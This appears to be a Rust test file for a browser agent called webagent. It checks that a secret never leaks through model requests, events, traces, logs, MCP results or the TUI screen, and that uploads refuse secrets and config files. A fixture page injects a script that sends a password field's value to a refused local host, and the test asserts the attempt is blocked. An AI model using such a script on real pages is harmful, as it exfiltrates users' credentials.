//! One secret, every way out of the process: the model, events, trace,
//! log, screen, downloads, MCP and the workbench never carry it.

use std::time::Duration;

use serde_json::json;
use webagent::agent::AGENT_TOOL_NAME;
use webagent::serve::Response;

use crate::sides::{reply, shared};
use crate::support::cli::webagent;
use crate::support::llm_server::{tool_call_completion, tool_call_events, LlmServer, Reply};
use crate::support::pages::page;
use crate::support::scratch::scratch_dir;
use crate::support::tmux::{
    require_tmux_and_chromium, tmux_keys, tmux_start, wait_for_screen, TmuxSession,
};

/// The secret value every channel below must never show.
const VAULT: &str = "Vq7-cobalt-0412";

/// Serves the vault pages on `home`: a GET form that echoes what it was
/// sent into its text, its title, a field's value and a link, and a
/// downloadable file holding the value.
fn serve_vault() -> String {
    let s = shared();
    s.home.html(
        "/vault",
        page(
            "Vault",
            "<form action=/vault/echo method=get><input name=pw id=pw placeholder=Password>\
             <button type=submit>Send</button></form>",
        ),
    );
    // The same form, but its answer page then sends the value on to a
    // host the allowed domains refuse, by itself, while the model thinks.
    s.home.html(
        "/vault/run",
        page(
            "Vault",
            "<form action=/vault/echo method=get><input name=pw id=pw placeholder=Password>\
             <input type=hidden name=leak value=1><button type=submit>Send</button></form>",
        ),
    );
    let refused = format!("http://localhost:{}/leak", s.away.addr().port());
    s.home.handle("/vault/echo", move |req| {
        let field = |name: &str| {
            url::form_urlencoded::parse(req.query.as_bytes())
                .find(|(k, _)| k == name)
                .map(|(_, v)| v.into_owned())
                .unwrap_or_default()
        };
        let sent = field("pw");
        let leak = if field("leak") == "1" {
            format!(
                "<script>setTimeout(() => {{ location.href = '{refused}?pw=' + \
                 encodeURIComponent(document.getElementById('copy').value) }}, 300)</script>"
            )
        } else {
            String::new()
        };
        Response::html(format!(
            "<!doctype html><html><head><title>Echo {sent}</title></head><body>\
             <p>You sent {sent}</p><input id=copy value=\"{sent}\">\
             <a href=\"/vault/again?pw={sent}\">again</a> \
             <a href=/vault/notes.txt download>notes</a>{leak}</body></html>"
        ))
    });
    s.home.handle("/vault/notes.txt", |_| {
        Response::text(format!("the vault code is {VAULT}\n"))
            .with_header("Content-Disposition", "attachment; filename=notes.txt")
    });
    s.home.url("/vault")
}

/// A config naming the secret and allowing only the vault's origin, for
/// every command alike.
fn vault_config(dir: &std::path::Path) -> std::path::PathBuf {
    let config = dir.join("webagent.yaml");
    std::fs::write(
        &config,
        format!(
            "secrets:\n  vault: env:WEBAGENT_TEST_VAULT\npaths:\n  sessions: sessions\n\
             allowed_domains: [\"{}\"]\n",
            shared().home.origin()
        ),
    )
    .expect("the config");
    config
}

/// Every file below `dir`, as text.
fn all_text_under(dir: &std::path::Path) -> String {
    let mut text = String::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(at) = stack.pop() {
        for entry in std::fs::read_dir(&at).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                text.push_str(&String::from_utf8_lossy(
                    &std::fs::read(&path).unwrap_or_default(),
                ));
            }
        }
    }
    text
}

fn assert_no_secret(channel: &str, text: &str) {
    assert!(
        !text.contains(VAULT),
        "the secret reached {channel}:\n{}",
        text.lines()
            .filter(|l| l.contains(VAULT))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

/// The secret is typed into a page that shows it back in every way a page
/// can (text, title, URL, a field, a link, a downloaded file), and it
/// reaches none of the ways out of the process: the model's requests (the
/// step and `extract`'s), the events on stdout (`--json`), the trace, the
/// log file (at debug, where the CDP client logs what it sends), `exec`'s
/// and `observe`'s output, `read_file` without a model, an MCP client's
/// results, and the workbench's screen.
#[test]
fn a_secret_reaches_no_output_channel() {
    let url = serve_vault();
    let echo = shared().home.url(&format!("/vault/echo?pw={VAULT}"));
    let dir = scratch_dir("vault");
    let config = vault_config(&dir);
    let command = |args: &[&str]| {
        let mut command = webagent();
        command
            .current_dir(&dir)
            .env("WEBAGENT_CONFIG", &config)
            .env("WEBAGENT_TEST_VAULT", VAULT)
            .env("WEBAGENT_LOG", "debug")
            .args(["--log-file", "log/webagent.log"])
            .args(args);
        command
    };
    let placeholder = "<secret>vault</secret>";

    // 1. An agent run: the model, the events, the trace, the log.
    let run = shared().runtime.block_on(async {
        let llm = LlmServer::start(vec![
            reply(
                "type the code",
                json!({"input_text": {"selector": "#pw", "text": placeholder}}),
            ),
            reply(
                "send it",
                json!({"click": {"selector": "button[type=submit]"}}),
            ),
            // The model takes its time: meanwhile the page tries to send
            // the value to a refused host, which is reported as an event.
            Reply::sse(tool_call_events(
                AGENT_TOOL_NAME,
                &json!({
                    "evaluation_previous_goal": "sent",
                    "memory": "",
                    "next_goal": "read what came back",
                    "action": {"read_page": {}},
                }),
                4,
            ))
            .paced(Duration::from_millis(500)),
            reply(
                "extract it",
                json!({"extract": {"instruction": "what was sent"}}),
            ),
            Reply::json(
                200,
                tool_call_completion("extract_result", &json!({"result": "something"})),
            ),
            reply("finish", json!({"done": {"text": "sent", "success": true}})),
        ])
        .await;
        let mut run = command(&["run", "Send the vault code", "--json", "--yes"]);
        let start = shared().home.url("/vault/run");
        run.args([
            "--model",
            "m",
            "--url",
            &start,
            "--base-url",
            &llm.base_url(),
        ]);
        let output = tokio::task::spawn_blocking(move || run.output())
            .await
            .expect("joined")
            .expect("webagent run");
        (output, llm.requests())
    });
    let (output, requests) = run;
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert_eq!(output.status.code(), Some(0), "{stdout}");
    assert_eq!(requests.len(), 6, "{stdout}");
    let sent: String = requests.iter().map(|r| r.body.clone()).collect();
    assert_no_secret("the model", &sent);
    // The value did reach the page, and came back to the model masked.
    assert!(sent.contains(&format!("You sent {placeholder}")), "{sent}");
    // The page's own attempt was refused and reported, masked.
    assert!(
        stdout.contains("blocked a navigation to")
            && stdout.contains("leak?pw=<secret>vault</secret>"),
        "the refusal is reported:\n{stdout}"
    );
    assert_no_secret("--json events", &stdout);
    assert_no_secret("stderr", &String::from_utf8_lossy(&output.stderr));
    let traces = all_text_under(&dir.join("sessions"));
    assert!(traces.contains("read_page"), "a trace was written");
    assert_no_secret("the trace", &traces);

    // 2. `exec` without a model: its output, a field's value, and
    // `read_file` of a download that holds the value (the submit and the
    // download are commits, run with --yes).
    let exec = command(&["exec", &url, "--json", "--observe", "--yes"])
        .args([
            json!({"input_text": {"selector": "#pw", "text": placeholder}}).to_string(),
            json!({"click": {"selector": "button[type=submit]"}}).to_string(),
            json!({"click": {"selector": "a[download]"}}).to_string(),
            json!({"read_file": {"path": "notes.txt"}}).to_string(),
        ])
        .output()
        .expect("webagent exec");
    let exec_out = String::from_utf8_lossy(&exec.stdout).into_owned();
    assert_eq!(exec.status.code(), Some(0), "{exec_out}");
    assert!(
        exec_out.contains(&format!("the vault code is {placeholder}")),
        "read_file read the file, masked:\n{exec_out}"
    );
    assert_no_secret("exec's output", &exec_out);
    assert_no_secret("exec's stderr", &String::from_utf8_lossy(&exec.stderr));

    // 3. `observe` on a page that shows the value at once.
    let observe = command(&["observe", &echo, "--json"])
        .output()
        .expect("webagent observe");
    let observed = String::from_utf8_lossy(&observe.stdout).into_owned();
    assert!(observed.contains("You sent"), "{observed}");
    assert_no_secret("observe's output", &observed);

    // 4. An MCP client's results.
    let results = shared().runtime.block_on(mcp_results(&dir, &config, &url));
    assert!(results.contains(placeholder), "{results}");
    assert_no_secret("MCP results", &results);

    // 5. The workbench's screen.
    let screen = shared()
        .runtime
        .block_on(workbench_screen(&dir, &config, &echo));
    assert!(screen.contains(placeholder), "{screen}");
    assert_no_secret("the workbench's screen", &screen);

    // The log, written by every command above.
    let log = all_text_under(&dir.join("log"));
    assert!(log.contains("DEBUG"), "the log is at debug level");
    assert_no_secret("the log file", &log);
    let _ = std::fs::remove_dir_all(&dir);
}

/// An MCP session on the vault: the value typed, sent, read back; every
/// result as text.
async fn mcp_results(dir: &std::path::Path, config: &std::path::Path, url: &str) -> String {
    use rmcp::model::CallToolRequestParams;
    use rmcp::transport::TokioChildProcess;
    use rmcp::ServiceExt;
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_webagent"));
    command
        .current_dir(dir)
        .env("WEBAGENT_CONFIG", config)
        .env("WEBAGENT_TEST_VAULT", VAULT)
        .env("WEBAGENT_LOG", "debug")
        .env_remove("OPENAI_API_KEY")
        .args(["--log-file", "log/mcp.log", "mcp", "--yes", "--url", url]);
    let client =
        ().serve(TokioChildProcess::new(command).expect("webagent mcp starts"))
            .await
            .expect("the MCP handshake");
    let mut results = String::new();
    for (name, arguments) in [
        (
            "input_text",
            json!({"selector": "#pw", "text": "<secret>vault</secret>"}),
        ),
        ("click", json!({"selector": "button[type=submit]"})),
        ("read_page", json!({})),
        ("observe", json!({})),
    ] {
        let arguments = arguments.as_object().cloned().unwrap_or_default();
        let result = client
            .call_tool(CallToolRequestParams::new(name).with_arguments(arguments))
            .await
            .unwrap_or_else(|e| panic!("calling {name}: {e}"));
        results.push_str(&serde_json::to_string(&result).unwrap_or_default());
    }
    let _ = client.cancel().await;
    results
}

/// The workbench opened on a page showing the value, as the person sees
/// it once the listing is drawn.
async fn workbench_screen(dir: &std::path::Path, config: &std::path::Path, url: &str) -> String {
    require_tmux_and_chromium();
    let session = TmuxSession(format!("webagent-vault-{}", std::process::id()));
    tmux_start(
        &session.0,
        &format!(
            "cd {dir} && WEBAGENT_CONFIG={config} WEBAGENT_TEST_VAULT={VAULT} WEBAGENT_LOG=debug \
             {bin} --log-file log/tui.log tui --url '{url}'",
            dir = dir.display(),
            config = config.display(),
            bin = env!("CARGO_BIN_EXE_webagent"),
        ),
    );
    let screen = wait_for_screen(&session.0, "again</a>").await;
    tmux_keys(&session.0, &["q"]);
    screen
}

/// `upload_file` hands a page local files only from the allowed paths (the
/// working folder by default), and never the files that hold the
/// session's secrets or settings, even approved with `--yes`.
#[test]
fn an_upload_comes_only_from_allowed_paths_and_never_from_a_secrets_file() {
    let s = shared();
    s.home.html(
        "/upload",
        page("Upload", "<form><input type=\"file\" id=\"f\"></form>"),
    );
    let url = s.home.url("/upload");
    let dir = scratch_dir("uploads");
    std::fs::write(dir.join("secrets.env"), format!("VAULT_PW={VAULT}\n")).expect("secrets");
    std::fs::write(dir.join("webagent.yaml"), "secrets_file: secrets.env\n").expect("config");
    std::fs::write(dir.join("report.txt"), "quarterly figures\n").expect("a report");
    let outside = std::env::temp_dir().join(format!("webagent-outside-{}.txt", std::process::id()));
    std::fs::write(&outside, "not for pages\n").expect("an outside file");
    let upload = |path: &str| json!({"upload_file": {"selector": "#f", "path": path}}).to_string();
    let output = webagent()
        .current_dir(&dir)
        .env_remove("WEBAGENT_CONFIG")
        .args(["exec", &url, "--json", "--yes"])
        .arg(upload("secrets.env"))
        .arg(upload("./webagent.yaml"))
        .arg(upload(&outside.to_string_lossy()))
        .arg(upload("report.txt"))
        .arg("--log-file")
        .arg(dir.join("webagent.log"))
        .output()
        .expect("webagent exec");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let results: Vec<serde_json::Value> = stdout
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .map(|line: serde_json::Value| line["result"].clone())
        .collect();
    assert_eq!(
        results.len(),
        4,
        "{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let refused = |i: usize, names: &[&str]| {
        assert_eq!(results[i]["reason"], "blocked", "{}", results[i]);
        let message = results[i]["message"].as_str().unwrap_or("");
        for name in names {
            assert!(message.contains(name), "{name} missing from: {message}");
        }
    };
    refused(0, &["secrets.env", "secrets_file"]);
    refused(1, &["webagent.yaml", "config file"]);
    refused(2, &[&outside.to_string_lossy(), "uploads.allowed_paths"]);
    assert_eq!(results[3]["ok"], true, "{}", results[3]);
    let _ = std::fs::remove_file(&outside);
    let _ = std::fs::remove_dir_all(&dir);
}
